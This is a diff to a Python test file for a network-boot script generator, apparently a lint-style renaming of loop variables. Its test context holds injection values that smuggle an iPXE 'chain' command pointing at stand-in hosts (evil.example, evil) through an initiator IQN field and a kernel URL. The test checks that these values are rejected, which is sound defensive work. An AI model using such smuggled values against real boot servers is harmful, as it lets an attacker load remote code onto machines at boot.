@@ -28,13 +28,14 @@ def kernel_args(text: str, loader: str) -> list[str]:
     ``initrd=<name>`` (ipxe.efi hands the kernel only the initrds named there) and
     ``BOOTIF=`` (PXELINUX's IPAPPEND 2, written out for GRUB and iPXE over TFTP)."""
     if loader == "pxelinux":
-        line = next((l for l in text.splitlines() if l.strip().startswith("APPEND ")), "APPEND")
+        line = next((x for x in text.splitlines() if x.strip().startswith("APPEND ")),
+                    "APPEND")
         words = line.split()[1:]
     elif loader.startswith("grub"):
-        line = next(l for l in text.splitlines() if l.strip().startswith("linux "))
+        line = next(line_ for line_ in text.splitlines() if line_.strip().startswith("linux "))
         words = [w.strip("'") for w in line.split()[2:]]
     else:
-        line = next(l for l in text.splitlines() if l.startswith("kernel "))
+        line = next(line_ for line_ in text.splitlines() if line_.startswith("kernel "))
         words = line.split()[2:]
         if words[-3:] == ["||", "goto", "failed"]:
             words = words[:-3]
@@ -175,7 +176,7 @@ def test_f2_values_that_bypassed_the_schema_never_reach_a_script():
                 vars={"initiator_iqn": "iqn.x:a\nchain http://evil.example/e.ipxe"})
     script = policy.ipxe_script(MAC, evil, *CASES["sanboot-iscsi"][1:3], ctx)
     assert script.outcome == "error" and "initiator" in script.reason
-    assert all(not l.startswith("chain") for l in script.text.splitlines())
+    assert all(not line_.startswith("chain") for line_ in script.text.splitlines())
     assert "$" not in script.text.replace("${errno}", "") and "||" not in script.text
     chained = dataclasses.replace(CASES["install"][1],
                                   kernel="http://10.0.0.1/linux || chain http://evil/x")
